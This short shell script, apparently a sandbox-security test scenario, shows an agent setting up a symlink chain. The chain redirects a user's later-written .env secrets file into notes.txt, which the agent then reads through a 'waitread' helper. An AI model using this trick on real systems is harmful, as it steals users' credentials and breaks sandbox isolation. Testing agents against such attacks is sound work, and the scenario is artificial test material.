# agent.sh (inside the sandbox): `.env -> hop -> draft` (a chain, dangling), then
# `hop` is pointed elsewhere: `.env -> hop -> notes.txt`. The user's later `.env`
# lands in notes.txt, which the agent reads.
ln -s draft hop && ln -s hop .env && rm hop && ln -s notes.txt hop && echo "agent: .env -> $(readlink .env) -> $(readlink hop)"
touch ./linked
exec ./waitread 127.0.6.6 notes.txt
